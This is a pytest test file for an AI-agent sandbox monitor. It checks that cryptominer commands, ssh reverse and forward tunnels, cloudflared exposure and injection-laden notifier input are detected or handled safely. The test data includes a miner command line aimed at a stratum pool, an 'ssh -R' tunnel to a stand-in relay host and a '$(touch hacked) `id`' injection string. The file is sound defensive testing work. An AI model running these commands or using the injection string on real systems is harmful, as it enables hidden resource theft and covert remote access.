"""Detection as the recorder calls it: on a real log, with the real detectors, and everything that can go wrong."""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from jupyter_agentwatch.audit.chain import FORMAT
from jupyter_agentwatch.audit.reader import read_events
from jupyter_agentwatch.audit.verify import verify_log
from jupyter_agentwatch.cli.hunting import replayed
from jupyter_agentwatch.detect.engine import FAILED
from jupyter_agentwatch.detect.sigma_compile import compile_rules
from jupyter_agentwatch.detect.sigma_form import encode_rules
from jupyter_agentwatch.errors import PolicyError
from jupyter_agentwatch.events import Connect, Exec, FileOp, Finding, Flow, LimitHit, Step
from jupyter_agentwatch.policy import (
    Breaker,
    Budgets,
    Detect,
    Network,
    NetworkRule,
    Notify,
    Policy,
    check_policy,
    policy_from_mapping,
)
from jupyter_agentwatch.supervisor import detection
from jupyter_agentwatch.supervisor.budgets import BudgetBook
from jupyter_agentwatch.supervisor.detection import LOAD_FAILED, Detection, Detectors
from jupyter_agentwatch.supervisor.notifier import notify
from jupyter_agentwatch.supervisor.record import Recorder, open_log
from jupyter_agentwatch.testing import event
from tests.servers import Server

if TYPE_CHECKING:
    import socket
    from collections.abc import Callable, Iterator

    from jupyter_agentwatch.breaker import Trip

MINER = ["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", "4" + "A" * 94, "--donate-level", "1"]
SERVED = ["cloudflared", "tunnel", "--url", "http://localhost:8000"]
TUNNEL = ["ssh", "-N", "-R", "8022:localhost:22", "user@relay.example"]

SIGMA = """
title: A marker word is run
id: 3f0e6d0c-7d4c-4a53-9a0f-1c5f6f0a1b2c
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: marker-word
    condition: selection
level: high
tags:
    - attack.t1496
"""


class Ground:
    """A recorder with detection on a new log; `trips` are what it wanted done."""

    def __init__(self, path: Path, policy: Policy, rules: bytes = b"") -> None:
        self.path = path
        self.trips: list[Trip] = []
        self.recorder = Recorder(open_log(path, watch="w", format=FORMAT), "w", lambda _: None, max_bytes=1 << 30)
        self.recorder.expect_examiner()
        self.detection = Detection(policy, rules, self.trips.append)

    def arm(self) -> None:
        """Load the detectors, and look at what was recorded before."""
        self.detection.load()
        self.recorder.examine_with(self.detection)

    def run(self, argv: list[str], *, step: int = 1, pid: int = 10) -> int:
        """Record that a program was asked for."""
        return self.recorder.record(Exec, basis="claimed", step=step, pid=pid, path=argv[0], argv=argv)

    def found(self, kind: type = Finding) -> list[Any]:
        """Return the records of a kind."""
        return [each for each in read_events(self.path) if isinstance(each, kind)]


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Callable[..., Ground]]:
    """Make grounds, by default armed and with the default policy."""
    made: list[Ground] = []

    def make(policy: Policy | None = None, rules: bytes = b"", *, arm: bool = True) -> Ground:
        made.append(Ground(tmp_path / f"{len(made)}.jsonl", policy or Policy(), rules))
        if arm:
            made[-1].arm()
        return made[-1]

    yield make
    for each in made:
        each.recorder.close()


def test_a_finding_stands_behind_its_record_before_the_recorder_returns(ground: Callable[..., Ground]) -> None:
    """A miner's arguments are a finding with evidence, step, process and reasons, and trip, all within `record`."""
    made = ground()
    made.recorder.step_belongs_to(4, "cell-9")
    seq = made.run(MINER, step=4, pid=77)
    (found, *_) = [each for each in made.found() if each.severity == "critical"]
    assert (found.rule, found.family, found.technique) == ("mining.miner_options", "mining", "T1496")
    assert (found.evidence, found.step, found.cell, found.pid, found.basis) == ([seq], 4, "cell-9", 77, "claimed")
    assert found.rationale
    assert [trip.cause for trip in made.trips] == ["trip"]
    assert made.trips[0].evidence == (found.seq,)
    assert verify_log(made.path).ok


def test_what_came_before_the_detectors_is_looked_at_in_its_order(ground: Callable[..., Ground]) -> None:
    """Records made while the detectors load are kept, and found in, before anything that comes later."""
    made = ground(arm=False)
    first = made.run(MINER, step=1)
    assert made.found() == []
    made.arm()
    second = made.run(MINER, step=2)
    assert [each.evidence for each in made.found() if each.severity == "critical"] == [[first], [second]]


def test_ordinary_work_is_no_finding(ground: Callable[..., Ground]) -> None:
    """Compilers, package tools and version control trip nothing and are told of nothing."""
    made = ground()
    for argv in (["git", "status"], ["pip", "--version"], ["make", "-j4"], ["python3", "train.py", "--epochs", "3"]):
        made.run(argv)
    made.recorder.record(FileOp, op="openat", path="/project/out.txt", step=1)
    assert (made.found(), made.trips) == ([], [])


def test_two_families_trip_together(ground: Callable[..., Ground]) -> None:
    """A tunnel alone is a warning; with a second family of high findings it trips, and both are named."""
    made = ground()
    made.run(SERVED)
    (tunnel, *_) = [each for each in made.found() if each.severity == "high"]
    assert made.trips == []
    made.recorder.record(Finding, rule="x.y", title="another", severity="high", family="exfiltration", evidence=[0])
    (trip,) = made.trips
    assert trip.evidence[0] in [each.seq for each in made.found() if each.family == "tunnel"]
    assert tunnel.family == "tunnel"


def test_the_policy_says_what_trips(ground: Callable[..., Ground]) -> None:
    """`never` only records; `throttle_at` throttles where nothing freezes."""
    silent = ground(Policy(breaker=Breaker(freeze_at="never", two_families_at="never")))
    silent.run(MINER)
    assert silent.trips == []
    assert [each for each in silent.found() if each.severity == "critical"]
    throttling = ground(Policy(breaker=Breaker(freeze_at="never", two_families_at="never", throttle_at="high")))
    throttling.run(TUNNEL)
    assert {trip.cause for trip in throttling.trips} == {"throttle"}


def test_a_disabled_rule_finds_nothing(ground: Callable[..., Ground]) -> None:
    """Rules that the policy disables by id make no finding, ours as well as Sigma's."""
    compiled, _ = compile_rules({"marker.yml": SIGMA})
    both = Detect(disabled=["3f0e6d0c-7d4c-4a53-9a0f-1c5f6f0a1b2c", "mining.miner_options"])
    for detect, count in ((Detect(), 1), (both, 0)):
        made = ground(Policy(detect=detect), encode_rules(compiled))
        made.run(["echo", "marker-word"])
        made.run(MINER)
        found = made.found()
        assert [each.title for each in found].count("A marker word is run") == count
        assert [each.rule for each in found].count("mining.miner_options") == count


def test_detectors_that_cannot_be_loaded_stop_the_watch(ground: Callable[..., Ground]) -> None:
    """Rules that are no rules give one high finding, and a trip: nothing is looked for any more."""
    made = ground(rules=b"no rules at all", arm=False)
    made.recorder.record(Step, op="start", step=1, argv=["true"])
    made.arm()
    made.recorder.record(Step, op="end", step=1)
    (found,) = made.found()
    assert (found.rule, found.severity, found.family) == (LOAD_FAILED, "high", "monitor")
    assert [trip.evidence for trip in made.trips] == [(found.seq,)]


def test_an_agent_cannot_blind_a_detector(ground: Callable[..., Ground], monkeypatch: pytest.MonkeyPatch) -> None:
    """One that goes out of service stops the watch whatever the policy says; after a resume it looks again."""
    monkeypatch.setattr(detection, "_LIMIT_NS", -1)  # every event is too slow
    made = ground(Policy(breaker=Breaker(freeze_at="never", two_families_at="never")))
    monkeypatch.undo()

    def told() -> list[Finding]:
        for number in range(3):
            made.run(["true", str(number)], step=1)
        return [each for each in made.found() if "the detector persistence" in each.title]

    (found,) = told()
    assert (found.rule, found.severity) == (FAILED, "high")
    assert (found.seq,) in [trip.evidence for trip in made.trips]
    assert told() == [found]
    made.detection.acquit()
    assert len(told()) == 2
    # The checks of commands go out of service one by one, and none of them has anything to do with `true`.
    made.run(MINER, step=2)
    assert [each.rule for each in made.found() if each.family == "mining"] == ["mining.miner_options"]


def test_a_replay_finds_the_same(ground: Callable[..., Ground]) -> None:
    """The same detectors over the log find what was found when it was recorded, in the same order."""
    compiled, _ = compile_rules({"marker.yml": SIGMA})
    rules = encode_rules(compiled)
    made = ground(rules=rules, arm=False)
    made.run(MINER, step=1)
    made.arm()
    for step in range(2, 12):
        made.recorder.record(Step, op="start", step=step, argv=TUNNEL)
        made.run(TUNNEL, step=step, pid=step)
        made.run(["sh", "-c", "echo marker-word"], step=step, pid=step)
        for port in range(1, 40):
            where: dict[str, Any] = {"transport": "tcp", "addr": "10.0.0.7", "port": port, "errno": 13}
            made.recorder.record(Connect, verdict="deny", step=step, pid=step, **where)
        made.recorder.record(Step, op="end", step=step, outcome="exited", exit_code=0)
    live = [(each.rule, each.title, each.severity, each.evidence, each.step, each.pid) for each in made.found()]
    again = [
        (each.rule, each.title, each.severity, list(each.evidence), each.step, each.pid)
        for each in replayed(made.path, rules, Policy())
    ]
    assert len(live) > 30
    assert again == live


# Budgets

SPENDING = {
    "bytes_out": ([event("flow", op="closed", bytes_out=60)] * 2, 100),
    "connections": ([event("connect", flow=1)] * 3, 2),
    "cpu_s": ([event("resources", cpu_s=0.6)] * 2, 1),
    "gpu_s": ([event("gpu", op="process", member=True, gpu_seconds=0.6)] * 2, 1),
    "money": ([event("resources", cpu_s=1800.0)] * 3, 1),
}


@pytest.mark.parametrize("name", list(SPENDING))
def test_a_used_up_budget_is_on_record_once_and_trips(ground: Callable[..., Ground], name: str) -> None:
    """What goes beyond a budget leaves one `limit` record with the policy's name for it, and stops the watch."""
    events, granted = SPENDING[name]
    made = ground(Policy(budgets=Budgets(**{name: granted}, price_cpu_hour=1.0)))
    for position, each in enumerate(events, 1):
        assert made.found(LimitHit) == []
        fields = {key: getattr(each, key) for key in each.__struct_fields__}
        for stamp in ("seq", "t_mono_ns", "t_wall_ns", "watch", "cell"):
            del fields[stamp]
        made.recorder.record(type(each), **(fields | ({"flow": position} if isinstance(each, Flow) else {})))
    (hit,) = made.found(LimitHit)
    assert (hit.limit, hit.maximum) == (f"budgets.{name}", granted)
    assert hit.value > granted
    assert [trip.evidence for trip in made.trips] == [(hit.seq,)]


def test_a_resume_grants_a_tenth() -> None:
    """After a person let the watch go on, a tenth of the budget, and what was overdrawn, is free again."""
    book = BudgetBook(Budgets(cpu_s=10))
    assert book.feed(event("resources", cpu_s=9.0)) == []
    assert [each["limit"] for each in book.feed(event("resources", cpu_s=3.0))] == ["budgets.cpu_s"]
    assert book.feed(event("resources", cpu_s=1.0)) == []  # told already
    book.grant()
    assert book.feed(event("resources", cpu_s=1.0)) == []  # 13 and a tenth
    assert book.feed(event("resources", cpu_s=0.5))[0]["maximum"] == pytest.approx(14.0)


def test_bytes_of_open_flows_count_once() -> None:
    """What a flow has sent counts while it is open, and not a second time when it ends."""
    book = BudgetBook(Budgets(bytes_out=100))
    assert book.look({1: 90}) == []
    assert book.feed(event("flow", op="closed", flow=1, bytes_out=95)) == []
    assert book.used()["bytes_out"] == 95
    assert [each["limit"] for each in book.look({2: 6})] == ["budgets.bytes_out"]


def test_others_use_and_one_process_alone_are_not_counted_twice() -> None:
    """GPU time of processes that are not the sandbox's, and the busy processes of a sum, add nothing."""
    book = BudgetBook(Budgets(cpu_s=1, gpu_s=1))
    assert book.feed(event("gpu", op="process", member=False, gpu_seconds=5.0)) == []
    assert book.feed(event("gpu", op="device", gpu_seconds=5.0)) == []
    assert book.feed(event("resources", pid=7, cpu_s=5.0)) == []
    assert book.used() == dict.fromkeys(("bytes_out", "connections", "cpu_s", "gpu_s", "money"), 0.0)


# Who is told

WHAT = {"watch": "0badcafe", "why": "$(touch hacked) `id` \"';&", "evidence": [7]}


def test_a_command_is_told_without_a_shell(tmp_path: Path) -> None:
    """The command gets the object on its standard input; the agent's words in it are only words."""
    told = tmp_path / "told"
    where = Notify(command=["/bin/sh", "-c", f"cat > {told}"])
    assert notify(where, WHAT) == ["/bin/sh: exit 0"]
    assert msgspec.json.decode(told.read_bytes()) == WHAT


def test_a_command_that_hangs_is_killed() -> None:
    """Nobody waits for a command, or for what it has started, longer than the policy says."""
    where = Notify(command=["/bin/sh", "-c", "sleep 1000 & sleep 1000"], timeout_s=0.2)
    begun = time.monotonic()
    assert notify(where, WHAT) == ["/bin/sh: killed after 0.2 s"]
    assert time.monotonic() - begun < 20
    assert notify(Notify(command=["/no/such/program"]), WHAT) == ["/no/such/program: No such file or directory"]


def test_an_address_is_told() -> None:
    """The object is posted as JSON; one that refuses, or answers nonsense, is told of and no error."""

    def answer(connection: socket.socket) -> bytes:
        received = b""
        while not received.endswith(b"}"):
            received += connection.recv(4096)
        connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        return received

    with Server(answer) as server:
        url = f"http://127.0.0.1:{server.port}/hook"
        assert notify(Notify(url=url), WHAT) == [f"{url}: 204"]
        head, _, body = server.wait_said(1)[0].partition(b"\r\n\r\n")
    assert head.startswith(b"POST /hook HTTP/1.1\r\n")
    assert msgspec.json.decode(body) == WHAT
    (outcome,) = notify(Notify(url=url, timeout_s=1), WHAT)
    assert outcome.startswith(f"{url}: ")
    assert "refused" in outcome


# The policy's words

WRONG: list[tuple[dict[str, Any], str]] = [
    ({"breaker": {"freeze_at": "severe"}}, "breaker.freeze_at: expected"),
    ({"breaker": {"two_families_window_s": 0}}, "breaker.two_families_window_s"),
    ({"breaker": {"notify": {"command": ["mail", "me"]}}}, "breaker.notify.command[0]: "),
    ({"breaker": {"notify": {"command": ["/bin/true", "a\0b"]}}}, "breaker.notify.command[1]: "),
    ({"breaker": {"notify": {"url": "file:///etc/passwd"}}}, "breaker.notify.url: "),
    ({"breaker": {"notify": {"timeout_s": 3600}}}, "breaker.notify.timeout_s: "),
    ({"detect": {"rules": ["sigma"]}}, 'detect.rules[0]: "sigma": give an absolute path'),
    ({"detect": {"rules": ["/etc/../x"]}}, "detect.rules[0]: "),
    ({"detect": {"disabled": [" "]}}, "detect.disabled[0]: "),
    ({"budgets": {"money": 0}}, "budgets.money: "),
    ({"budgets": {"bytes_out": 0}}, "budgets.bytes_out: "),
]


@pytest.mark.parametrize(("given", "text"), WRONG)
def test_what_makes_no_sense_is_refused_by_name(given: dict[str, Any], text: str) -> None:
    """Each mistake names its field, and what to write instead."""
    with pytest.raises(PolicyError) as caught:
        policy_from_mapping(given)
    assert text in str(caught.value)


def test_the_defaults_are_valid() -> None:
    """The default policy freezes at critical or at two families of high, and never throttles by itself."""
    policy = check_policy(Policy())
    assert (policy.breaker.freeze_at, policy.breaker.two_families_at, policy.breaker.throttle_at) == (
        "critical",
        "high",
        "never",
    )


SSH_PLACES = [
    NetworkRule(host="host.loopback", ports=[8022]),
    NetworkRule(host="*.example.org", ports=[8443], protocol="ssh"),
    NetworkRule(cidr="198.51.100.7", ports=[443]),
    NetworkRule(cidr="198.51.100.0/24", ports=[443]),
    NetworkRule(host="*.example.net", ports=[443]),
]


@pytest.mark.parametrize(
    ("rule", "severity"), [(0, "medium"), (1, ""), (2, "medium"), (3, "high"), (4, "high")], ids=str
)
def test_ssh_where_the_policy_names_the_place_is_no_surprise(rule: int, severity: str) -> None:
    """A rule for ssh itself: nothing; one that names the host and port: medium; a wide one: high, as without any."""
    detectors = Detectors(b"", (), Policy(network=Network(rules=SSH_PLACES)))
    flow = event("flow", protocol="ssh", addr="198.51.100.7", port=443, rule=f"network.rules[{rule}]")
    assert [each.severity for each in detectors.feed(flow)] == ([severity] if severity else [])


@pytest.mark.parametrize(
    ("argv", "severity"),
    [
        (["ssh", "-p", "8022", "u@box.example.org"], ""),
        (["ssh", "-p", "8022", "u@box.example.org", "uptime"], ""),
        (["ssh", "-p", "8022", "-R", "9000:localhost:22", "u@box.example.org"], "critical"),
        (["ssh", "-p", "8022", "-N", "-L", "9000:10.0.0.9:22", "u@box.example.org"], "high"),
        (["ssh", "-p", "8022", "-D", "1080", "u@box.example.org"], "high"),
    ],
    ids=["a session", "a command", "-R", "-L", "-D"],
)
def test_a_forward_stays_what_it_is_wherever_ssh_may_go(argv: list[str], severity: str) -> None:
    """The policy names where ssh goes, not what goes through it: a session is nothing, a forward is severe."""
    detectors = Detectors(b"", (), Policy(network=Network(rules=SSH_PLACES)))
    asked = event("exec", basis="claimed", path="/usr/bin/ssh", argv=argv)
    assert [each.severity for each in detectors.feed(asked)] == ([severity] if severity else [])


def test_a_slow_flow_to_a_place_that_the_policy_names_is_weak() -> None:
    """An experiment tracker beside a training run: medium where a rule names its host, high where none does."""
    for rule, severity in (("network.rules[0]", "medium"), ("network.rules[4]", "high")):
        detectors = Detectors(b"", (), Policy(network=Network(rules=SSH_PLACES)))
        busy = [event("resources", pid=9, interval_s=30.0, cpu_s=29.0) for _ in range(10)]
        slow = event(
            "flow", op="closed", protocol="tls", duration_s=900.0, bytes_in=90_000, bytes_out=90_000, rule=rule
        )
        found = [each for one in (*busy, slow) for each in detectors.feed(one)]
        assert [(each.rule, each.severity) for each in found] == [("mining.slow_flow", severity)]
